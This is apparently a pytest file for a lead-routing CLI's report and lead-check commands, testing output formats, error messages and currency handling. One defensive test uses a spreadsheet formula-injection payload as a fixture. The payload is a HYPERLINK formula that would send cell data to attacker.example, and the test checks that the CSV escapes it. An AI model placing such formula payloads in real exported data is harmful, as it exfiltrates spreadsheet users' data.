"""`leadrouter report` and `leadrouter check --leads`, run in-process through typer's runner
against a database of their own. Past 400 lines: the tests share that module-scoped database,
filled once, and `run`."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import socket
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlmodel import col
from typer.testing import CliRunner

from bot.cli import app
from bot.policy_file import load_policy
from bot.service.offers import reject
from bot.service.outcomes import Reported, record_posted_events
from bot.service.unit_of_work import UnitOfWork
from routing.policy_version import short_version, version_of
from routing.report import COLUMNS, EventKind, OutcomeEvent
from storage.db import open_database
from storage.models import LeadRow, OfferRow, OfferStatus
from tests.pg import PostgresServer

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
POLICY = str(EXAMPLES / "routing.yml")
LEADS = str(EXAMPLES / "demo-leads.csv")
# The keys the issue promises each line of `--json`.
ISSUE_KEYS = {
    "group",
    "leads",
    "assigned",
    "queued",
    "time_to_claim_p50_s",
    "time_to_first_touch_p50_s",
    "claim_sla_met",
    "contact_sla_met",
    "rejects",
    "reassignments",
    "converted",
    "won",
    "conversion_rate",
    "conversion_ci_low",
    "conversion_ci_high",
}
runner = CliRunner()


def run(database_url: str, *words: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    result = runner.invoke(
        app,
        list(words),
        env={"DATABASE_URL": database_url, "LEADROUTER_RULES": POLICY, **(env or {})},
    )
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The demo's 50 leads imported (routed now), once for the module."""
    url = f"sqlite+aiosqlite:///{tmp_path_factory.mktemp('report') / 'leads.db'}"
    code, _, stderr = run(url, "import", LEADS)
    assert code == 0, stderr
    return url


def test_json_prints_one_object_per_group_with_the_issues_keys(database: str) -> None:
    code, stdout, stderr = run(database, "report", "--json")

    assert code == 0, stderr
    lines = [json.loads(line) for line in stdout.splitlines()]
    assert lines and all(set(line) >= ISSUE_KEYS for line in lines)
    assert sum(line["leads"] for line in lines) == 50
    assert all(line["by"] == "rule" for line in lines)
    # Nothing measured is never a made-up zero: nobody has claimed or touched a lead yet.
    assert {line["time_to_claim_p50_s"] for line in lines} == {None}
    assert {line["contact_sla_met"] for line in lines} == {None}


def test_csv_has_the_documented_columns_and_a_row_per_group(database: str) -> None:
    code, stdout, stderr = run(database, "report", "--csv", "--by", "team")

    assert code == 0, stderr
    rows = list(csv.DictReader(io.StringIO(stdout)))
    assert list(rows[0]) == list(COLUMNS)
    assert {row["by"] for row in rows} == {"team"}
    assert sum(int(row["leads"]) for row in rows) == 50


def test_the_table_names_each_group_then_fairness_and_data_health(database: str) -> None:
    code, stdout, stderr = run(database, "report", "--since", "2d", "--by", "region")

    assert code == 0, stderr
    assert "by region" in stdout and "all leads" in stdout
    assert "Fairness" in stdout and "Data health" in stdout
    assert "too few to go by" in stdout


def test_policy_version_groups_leads_by_the_version_that_decided_them(database: str) -> None:
    code, stdout, stderr = run(database, "report", "--json", "--by", "policy_version")

    assert code == 0, stderr
    (line,) = [json.loads(text) for text in stdout.splitlines()]
    version = short_version(version_of(Path(POLICY).read_text(encoding="utf-8")))
    assert (line["group"], line["leads"]) == (version, 50)


def test_an_empty_window_says_so_and_prints_no_group(database: str) -> None:
    window = ("--from", "2020-01-01", "--to", "2020-01-07")

    table = run(database, "report", *window)
    lines = run(database, "report", *window, "--json")
    sheet = run(database, "report", *window, "--csv")

    assert table[0] == lines[0] == sheet[0] == 0
    assert "No lead arrived from 2020-01-01 00:00 UTC until 2020-01-08 00:00 UTC" in table[1]
    assert lines[1] == ""
    assert sheet[1].splitlines() == [",".join(COLUMNS)]


def test_a_sqlite_database_that_is_not_there_is_a_sentence_and_no_file_is_made(
    tmp_path: Path,
) -> None:
    mistyped = tmp_path / "leadruoter.db"

    code, stdout, stderr = run(f"sqlite:///{mistyped}", "report")

    assert code == 1
    assert stdout == ""
    assert stderr.strip() == (
        f"error: no database at {mistyped}: set DATABASE_URL to the one serve uses"
    )
    assert not mistyped.exists()


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (
            ["--since", "7y"],
            "error: --since is a count of hours, days or weeks, such as 7d, not '7y'",
        ),
        (["--from", "2026-11-01"], "give both --from and --to"),
        (["--to", "2026-11-01", "--since", "7d"], "give both --from and --to"),
        (
            ["--from", "2026-11-07", "--to", "2026-11-01"],
            "--to (2026-11-01) must not be before --from (2026-11-07)",
        ),
        (["--from", "November", "--to", "2026-11-01"], "--from 'November' is not a date"),
        (["--since", "60w"], "a window is at most 366 days long"),
        (["--by", "colour"], "--by is one of rule, team, rep"),
        (["--csv", "--json"], "choose one"),
    ],
)
def test_a_bad_option_is_a_sentence_and_touches_no_database(
    tmp_path: Path, words: list[str], says: str
) -> None:
    database = tmp_path / "never.db"

    code, stdout, stderr = run(f"sqlite+aiosqlite:///{database}", "report", *words)

    assert code == 1
    assert says in stderr and "Traceback" not in stderr + stdout
    assert not database.exists()


def test_a_database_that_cannot_be_read_is_a_sentence(tmp_path: Path) -> None:
    # A file, not a missing folder: see test_serve's test of `db upgrade` on such a file.
    database = tmp_path / "leads.db"
    database.write_bytes(b"these are not the tables you are looking for" * 100)

    code, stdout, stderr = run(f"sqlite+aiosqlite:///{database}", "report")

    assert code == 1
    assert stderr.startswith("error: cannot migrate the database")
    assert "Traceback" not in stderr + stdout


def test_a_postgresql_that_cannot_be_reached_is_named_by_host_and_port_never_its_password() -> None:
    with socket.socket() as unused:  # a port on loopback that nothing listens on
        unused.bind(("127.0.0.1", 0))
        port = unused.getsockname()[1]
    code, stdout, stderr = run(f"postgresql://rep:s3cret-pw@127.0.0.1:{port}/leads", "report")

    assert code == 1
    assert stderr.startswith(
        f"error: cannot reach the database at 127.0.0.1:{port}: Connection refused. "
        "Is PostgreSQL running there"
    )
    assert "s3cret-pw" not in stderr + stdout
    assert "Traceback" not in stderr + stdout


def test_the_report_reads_postgresql_as_it_reads_sqlite(postgres_server: PostgresServer) -> None:
    # A test of its own loop-free thread: the commands run their own event loop, as in a shell.
    name = asyncio.run(postgres_server.create_database())
    try:
        url = postgres_server.url(name)
        assert run(url, "import", LEADS)[0] == 0

        code, stdout, stderr = run(url, "report", "--json", "--by", "all")

        assert code == 0, stderr
        (line,) = [json.loads(text) for text in stdout.splitlines()]
        assert line["leads"] == 50 and line["queued"] + line["assigned"] <= 50
    finally:
        asyncio.run(postgres_server.drop_database(name))


def test_check_leads_says_which_fields_leads_lack_and_what_that_costs(tmp_path: Path) -> None:
    leads = tmp_path / "leads.csv"
    leads.write_text(
        "id,email,country,employees,industry\n"
        "A,cto@bigco.com,US,5000,Software\n"
        "B,ops@firm.de,DE,40,\n"
        "C,ceo@shop.jp,,,\n"
        "D,vp@corp.br,BR,300,Retail\n"
    )

    result = runner.invoke(app, ["check", POLICY, "--leads", str(leads)])

    assert result.exit_code == 0, result.output
    out = result.stdout
    assert "4 leads routed in memory" in out and "Data health" in out
    rows = {line.split()[0]: line.split()[1:] for line in out.splitlines() if "(" in line}
    assert rows["industry"][:2] == ["2", "(50%)"]
    assert rows["employees"][:2] == ["1", "(25%)"]
    assert "would wait in the fallback queue `unmatched`" in out


def test_check_leads_with_a_missing_file_is_a_sentence(tmp_path: Path) -> None:
    result = runner.invoke(app, ["check", POLICY, "--leads", str(tmp_path / "none.csv")])

    assert result.exit_code == 1
    assert "none.csv: no such file" in result.stderr and "Traceback" not in result.output


def test_the_table_shows_every_outcome_share_and_breaks_no_word_on_80_columns(
    database: str,
) -> None:
    code, stdout, stderr = run(database, "report", "--by", "rule")

    assert code == 0, stderr
    volume = stdout[stdout.index("Volume") : stdout.index("Speed (from arrival)")]
    assert max(len(line) for line in volume.splitlines()) <= 80  # a terminal's width
    assert "nurture" in volume and "disq." in volume
    # The free e-mail leads go to nurture, the student's is disqualified: the shares say so,
    # rather than leaving three rows at 0% assigned, 0% queued and nothing else.
    free = next(line for line in volume.splitlines() if line.strip().startswith("Free email"))
    assert re.findall(r"\d+%", free) == ["0%", "0%", "100%", "0%", "0%"]
    students = next(line for line in volume.splitlines() if "Students" in line)
    assert re.findall(r"\d+%", students) == ["0%", "0%", "0%", "100%", "0%"]
    # Each group is in each of the three tables, its words whole ("Enterpris" / "e" nowhere).
    for word in ("Enterprise", "Healthcare", "specialist", "Mid-market", "requests"):
        assert stdout.count(word) == 3, word


def test_the_table_lists_every_leads_rejects_and_reassignments_by_reason(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'leads.db'}"
    assert run(url, "import", LEADS)[0] == 0
    code, stdout, _ = run(url, "report")
    assert code == 0 and "Misroute signals" not in stdout  # nothing rejected: no table

    asyncio.run(reject_one(url, reason="Not my territory"))
    code, stdout, stderr = run(url, "report")

    assert code == 0, stderr
    table = stdout[stdout.index("Misroute signals by reason, all leads") :]
    line = next(line for line in table.splitlines() if "Not my territory" in line)
    assert line.split() == ["rejected", "Not", "my", "territory", "1", "2.0"]  # 1 of 50 leads


async def reject_one(url: str, *, reason: str) -> None:
    """The rep of the first lead still offered rejects it, through the use case."""
    policy = load_policy(Path(POLICY))
    db = open_database(url)
    uow = UnitOfWork(db=db, policy=lambda: policy, clock=lambda: datetime.now(UTC))
    try:
        async with db.reading() as session:
            offered = select(OfferRow).where(col(OfferRow.status) == OfferStatus.OFFERED.value)
            offer = (await session.execute(offered.order_by(col(OfferRow.id)))).scalars().first()
            assert offer is not None
            lead = await session.get(LeadRow, offer.lead_id)
            assert lead is not None
        await reject(uow, lead.external_id, by=offer.rep_id, reason=reason)
    finally:
        await uow.aclose()
        await db.dispose()


def test_a_group_named_like_a_formula_is_written_to_the_csv_as_text(tmp_path: Path) -> None:
    # A lead's source comes from a web form: a spreadsheet opening the CSV must not run it.
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
    leads = tmp_path / "leads.csv"
    with leads.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "email", "company", "country", "source"])
        writer.writerow(["F-1", "a@formula.example", "Formula Inc", "US", formula])
        writer.writerow(["F-2", "b@plain.example", "Plain Ltd", "US", "@SUM(1+1)"])
    url = f"sqlite+aiosqlite:///{tmp_path / 'leads.db'}"
    code, _, stderr = run(url, "import", str(leads))
    assert code == 0, stderr

    code, stdout, stderr = run(url, "report", "--csv", "--by", "source")

    assert code == 0, stderr
    groups = {row["group"] for row in csv.DictReader(io.StringIO(stdout))}
    assert groups == {"'" + formula, "'@SUM(1+1)"}


async def close_two_deals(url: str) -> None:
    """Two leads won: one in dollars, one in pounds (through the use case, as a CRM tells it)."""
    policy = load_policy(Path(POLICY))
    db = open_database(url)
    now = datetime.now(UTC)
    uow = UnitOfWork(db=db, policy=lambda: policy, clock=lambda: now, currency="USD")
    try:
        async with db.reading() as session:
            leads = (await session.execute(select(LeadRow).order_by(col(LeadRow.id)))).scalars()
            first, second = [lead.external_id for lead in leads][:2]
        dollars = OutcomeEvent(EventKind.WON, now, Decimal("12000.50"), currency="USD")
        pounds = OutcomeEvent(EventKind.WON, now, Decimal("9000"), currency="GBP")
        await record_posted_events(
            uow, [Reported(first, dollars, "crm", "deal-1"), Reported(second, pounds, "crm", "d-2")]
        )
    finally:
        await uow.aclose()
        await db.dispose()


def test_amounts_are_shown_in_the_currency_set_and_one_in_another_is_left_out_and_counted(
    tmp_path: Path,
) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'leads.db'}"
    assert run(url, "import", LEADS)[0] == 0
    asyncio.run(close_two_deals(url))
    env = {"LEADROUTER_CURRENCY": "USD"}

    table = run(url, "report", "--by", "all", env=env)
    lines = run(url, "report", "--by", "all", "--json", env=env)
    sheet = run(url, "report", "--by", "all", "--csv", env=env)

    assert table[0] == lines[0] == sheet[0] == 0, table[2] + lines[2] + sheet[2]
    opportunities = table[1][table[1].index("Opportunities") :]
    assert "pipeline (USD)" in opportunities and "won amount (USD)" in opportunities
    assert "12,000.50" in opportunities and "9,000" not in opportunities
    assert "1 amount in another currency left out" in opportunities
    (line,) = [json.loads(text) for text in lines[1].splitlines()]
    assert (line["won"], line["won_amount"], line["currency"], line["amounts_left_out"]) == (
        2,
        12000.5,
        "USD",
        1,
    )
    (row,) = csv.DictReader(io.StringIO(sheet[1]))
    assert (row["won_amount"], row["currency"], row["amounts_left_out"]) == ("12000.5", "USD", "1")


def test_without_a_currency_set_amounts_are_plain_numbers(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'leads.db'}"
    assert run(url, "import", LEADS)[0] == 0
    asyncio.run(close_two_deals(url))  # recorded where USD was set: the pounds left out

    code, stdout, stderr = run(url, "report", "--by", "all")

    assert code == 0, stderr
    opportunities = stdout[stdout.index("Opportunities") :]
    assert "pipeline " in opportunities and "(USD)" not in opportunities
    assert "12,000.50" in opportunities


def test_report_without_a_policy_file_uses_the_active_version_and_keeps_stdout_csv(
    tmp_path: Path,
) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'leads.db'}"
    for words in (("import", LEADS), ("policy", "activate", POLICY)):
        code, _, stderr = run(url, *words)
        assert code == 0, stderr
    gone = tmp_path / "routing.yml"

    code, stdout, stderr = run(url, "report", "--csv", env={"LEADROUTER_RULES": str(gone)})

    assert code == 0, stderr
    version = short_version(version_of(Path(POLICY).read_text(encoding="utf-8")))
    assert stderr.splitlines() == [
        f"note: no policy file at {gone}: using version {version}, the one active in the "
        f"database (activated from {POLICY})"
    ]
    rows = list(csv.DictReader(io.StringIO(stdout)))
    assert sum(int(row["leads"]) for row in rows) == 50


def test_report_without_a_policy_file_nor_an_active_version_is_a_sentence(
    tmp_path: Path,
) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'leads.db'}"
    code, _, stderr = run(url, "import", LEADS)
    assert code == 0, stderr
    gone = tmp_path / "routing.yml"

    code, stdout, stderr = run(url, "report", env={"LEADROUTER_RULES": str(gone)})

    assert code == 1
    assert stdout == ""
    assert stderr.startswith(f"error: {gone}: no such policy file, and no policy version is active")
